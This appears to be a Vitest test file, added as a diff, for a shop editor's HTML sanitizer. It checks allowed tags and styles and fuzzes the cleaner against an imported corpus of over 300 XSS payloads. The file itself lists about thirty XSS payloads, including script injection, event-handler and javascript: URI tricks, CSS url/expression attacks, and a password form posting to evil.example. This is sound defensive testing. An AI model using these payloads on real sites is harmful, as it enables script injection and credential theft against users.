@@ -1,0 +1,164 @@
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { xssCorpus } from '#tests/support/xss-corpus.ts'
+import { htmlToText, sanitizeHtml } from './sanitize-html.ts'
+
+const kept = [
+  '<p>Plain <strong>bold</strong> <em>soft</em> <b>b</b> <i>i</i> <u>u</u> <s>s</s></p>',
+  '<h2>Two</h2><h3>Three</h3><ul><li>One</li></ul><ol start="3"><li>Three</li></ol>',
+  '<p style="text-align:center"><span style="color:#ff0000;font-size:18pt">Large</span></p>',
+  '<p style="color:rgb(1, 2, 3)">a</p><p style="color:teal">b</p>',
+  '<blockquote>Said</blockquote>',
+  '<table><thead><tr><th colspan="2">Size</th></tr></thead><tbody><tr><td rowspan="2">S</td></tr></tbody></table>',
+  '<p><a href="/privacy-policy">ours</a> <a href="mailto:a@b.example">mail</a> <a href="tel:+911234">call</a></p>',
+]
+for (const html of kept)
+  test(`what the editor makes stays: ${html.slice(0, 50)}`, () => expect(sanitizeHtml(html)).toBe(html))
+
+test('a link out of the shop passes nothing on', () => {
+  expect(sanitizeHtml('<a href="https://a.example" target="_blank" rel="me" onclick="x()">a</a>')).toBe(
+    '<a href="https://a.example" rel="noopener nofollow">a</a>',
+  )
+})
+
+test('a first heading becomes a second one', () => expect(sanitizeHtml('<h1>Title</h1>')).toBe('<h2>Title</h2>'))
+
+test('sizes and styles that the editor cannot make are left out', () => {
+  expect(sanitizeHtml('<p style="font-size:72pt;position:fixed;text-align:right">a</p>')).toBe(
+    '<p style="text-align:right">a</p>',
+  )
+})
+
+test('the seven sizes, the four alignments and plain colours stay; every other is left out', () => {
+  const styled = (style: string) => sanitizeHtml(`<p style="${style}">a</p>`)
+  const plain = '<p>a</p>'
+  for (const size of [8, 10, 12, 14, 18, 24, 36]) {
+    expect(styled(`font-size:${size}pt`)).toBe(`<p style="font-size:${size}pt">a</p>`)
+  }
+  for (const size of ['9pt', '72pt', '18px', '2em', '118pt', '100%', 'calc(18pt)'])
+    expect(styled(`font-size:${size}`)).toBe(plain)
+  for (const side of ['left', 'center', 'right', 'justify']) {
+    expect(styled(`text-align:${side}`)).toBe(`<p style="text-align:${side}">a</p>`)
+  }
+  for (const side of ['start', 'end', 'inherit', '-moz-center']) expect(styled(`text-align:${side}`)).toBe(plain)
+  for (const color of ['#C83', '#c8322b', 'rgb(200, 50, 43)', 'teal'])
+    expect(styled(`color:${color}`)).toBe(`<p style="color:${color}">a</p>`)
+  const strange = [
+    '#12',
+    '#1234567',
+    'rgb(300, 0, 0)',
+    'rgba(0,0,0,0)',
+    'transparent',
+    'inherit',
+    'var(--ink)',
+    'hsl(0 0% 0%)',
+    'url(#a)',
+  ]
+  for (const color of strange) expect(styled(`color:${color}`)).toBe(plain)
+})
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><path/></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVa\tScRiPt:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href=" \u0001javascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="vbscript:x">x</a>',
+  '<p onclick="alert(1)" id="a" class="b">x</p>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<p style="color:url(//evil.example/a)">x</p>',
+  '<p style="color:expression(alert(1))">x</p>',
+  '<p style="color:red;background-image:url(https://evil.example/pixel)">x</p>',
+  '<p style="font-size:18pt;}</style><script>alert(1)</script>">x</p>',
+  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
+  '<style>body{display:none}</style>',
+  '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0><base href=//evil.example>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<object data="x"></object><embed src="x"><video src=x onerror=alert(1)>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<td colspan="1 onmouseover=alert(1)">x</td>',
+  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
+  '"><img src=x onerror=alert(1)>',
+]
+const allowedTag =
+  /^<\/?(?:p|h[2-6]|ul|ol|li|blockquote|strong|em|b|i|u|s|a|span|br|table|caption|thead|tbody|tfoot|tr|th|td)(?:\s|\/?>)/
+const allowedAttribute = /^(?:href|rel|start|style|colspan|rowspan)$/
+
+/** What a browser would see as tags, with their attributes. */
+function expectHarmless(clean: string) {
+  for (const [tag] of clean.matchAll(/<[^>]*>?/g)) {
+    expect(tag).toMatch(allowedTag)
+    for (const [, name, value] of tag.matchAll(/\s([^\s=>]+)="([^"]*)"/g)) {
+      expect(name).toMatch(allowedAttribute)
+      // Browsers read a backslash as a slash, and no tabs or line ends at all.
+      if (name === 'href') expect(value).not.toMatch(/^[\s/\\]*[/\\][\s]*[/\\]/)
+      if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|tel:|\/(?!\/)|#|$)/i)
+      if (name === 'style') expect(value).not.toMatch(/url|expression|import|javascript/i)
+    }
+  }
+}
+
+for (const html of attacks)
+  test(`nothing of this can run: ${html.slice(0, 60)}`, () => expectHarmless(sanitizeHtml(html)))
+
+test('nothing of the known families of payloads can run, however often it is cleaned', () => {
+  expect(xssCorpus.length).toBeGreaterThan(300)
+  for (const payload of xssCorpus) {
+    for (const html of [
+      payload,
+      `<p>${payload}</p>`,
+      `<table><tr><td>${payload}</table>`,
+      `<a title="${payload}">x</a>`,
+    ]) {
+      const clean = sanitizeHtml(html)
+      expectHarmless(clean)
+      expect(sanitizeHtml(clean), html).toBe(clean)
+    }
+  }
+})
+
+test('no words of a payload are left as markup in plain text', () => {
+  for (const payload of xssCorpus) expect(htmlToText(`<p>Cotton</p>${payload}`)).toMatch(/^Cotton/)
+})
+
+test('a table inside a paragraph is put beside it, once and for all', () => {
+  const clean = sanitizeHtml('<p><table></table></p>')
+
+  expect(sanitizeHtml(clean)).toBe(clean)
+})
+
+test('any mixture of attacks and markup is harmless, and clean HTML is clean', () => {
+  const piece = fc.oneof(
+    fc.constantFrom(...attacks, ...kept, '<', '>', '"', "'", '&lt;', '</p>', '<!--', '-->', ' style=', '<p '),
+    fc.string(),
+  )
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
+      const clean = sanitizeHtml(pieces.join(''))
+      expectHarmless(clean)
+      expect(sanitizeHtml(clean)).toBe(clean)
+    }),
+    { numRuns: 300 },
+  )
+})
+
+test('deep nesting does not bring the cleaner down', () => {
+  expect(sanitizeHtml(`${'<b>'.repeat(50_000)}x`).length).toBeLessThan(1000)
+})
+
+test('plain text keeps the words, apart, and nothing else', () => {
+  const html =
+    '<h3>Cotton &amp; silk</h3><p>Soft<br>and light, 5 &lt; 6</p><ul><li>One</li><li>Two</li></ul><script>x()</script>'
+
+  expect(htmlToText(html)).toBe('Cotton & silk Soft and light, 5 < 6 One Two')
+})
